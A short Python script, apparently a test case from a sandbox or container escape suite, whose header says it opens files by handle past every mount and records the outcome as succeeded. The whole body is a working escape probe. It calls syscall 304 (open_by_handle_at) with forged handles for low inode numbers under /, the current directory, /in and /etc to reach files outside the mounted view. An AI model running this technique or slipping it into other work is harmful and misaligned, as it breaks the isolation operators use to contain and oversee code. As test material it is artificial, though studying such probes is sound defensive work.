#: about = "opens files by handle, past every mount"
#: outcome = "succeeded"
#: stdout = ["tried"]
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
tried = 0
for folder in ("/", ".", "/in", "/etc"):
    base = os.open(folder, os.O_RDONLY)
    for inode in (2, 1, 11):
        handle = ctypes.create_string_buffer((8).to_bytes(4, "little") + (1).to_bytes(4, "little") + inode.to_bytes(4, "little") + bytes(4), 136)
        tried += 1
        if libc.syscall(304, base, handle, os.O_RDONLY) >= 0:
            print("REACHED inode", inode, "below", folder)
print("tried", tried)
